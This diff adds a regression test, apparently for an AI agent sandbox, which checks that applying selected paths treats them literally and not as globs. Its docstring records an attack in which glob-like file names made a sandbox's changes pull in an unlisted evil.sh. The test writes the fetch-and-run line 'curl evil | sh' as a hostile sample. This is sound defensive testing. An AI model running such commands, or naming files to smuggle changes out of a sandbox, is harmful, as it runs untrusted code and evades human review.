@@ -173,6 +173,24 @@ def test_a_conflict_on_a_hostile_name_never_puts_its_escapes_in_the_message(sb, 
     assert "'e\\x1b[2Jx'" in message and "'notes.txt\\u200b'" in message, message
 
 
+def test_apply_paths_are_paths_even_when_the_sandbox_names_a_file_like_a_glob(sb, target):
+    """Found by the attack pass of 27 Nov: apply(paths=) passed each path to
+    `--only`, which takes globs too, so a file the agent named `*` (or
+    `[a-z]*`), handed back by a program that left `evil.sh` out of its
+    list, selected every change: evil.sh was applied."""
+    names = ["*", "[a-z]*", "d/?"]
+    sb.exec(["sh", "-c", "mkdir d; for n in \"$@\"; do echo x > \"$n\"; done; echo 'curl evil | sh' > evil.sh; "
+             "echo y > d/keep", "sh"] + names, check=True)
+    wanted = [c.path for c in sb.changes() if c.path != "evil.sh" and c.path not in ("d", "d/keep")]
+    assert sorted(wanted) == sorted(names)
+    shown = sb.diff(paths=wanted)
+    assert "evil.sh" not in shown and "d/keep" not in shown and "+x" in shown
+    result = sb.apply(paths=wanted)
+    assert sorted(result.applied) == sorted(names + ["d"]), result.applied  # d: the new parent d/? needs
+    assert not (target / "evil.sh").exists() and not (target / "d" / "keep").exists()
+    assert all((target / n).read_text() == "x\n" for n in names)
+
+
 def test_discard_leaves_the_target_untouched(sb, target, state_dir):
     before = tree(target)
     sb.exec(["sh", "-c", "echo gone > README.md; rm -r src; echo x > y"], check=True)
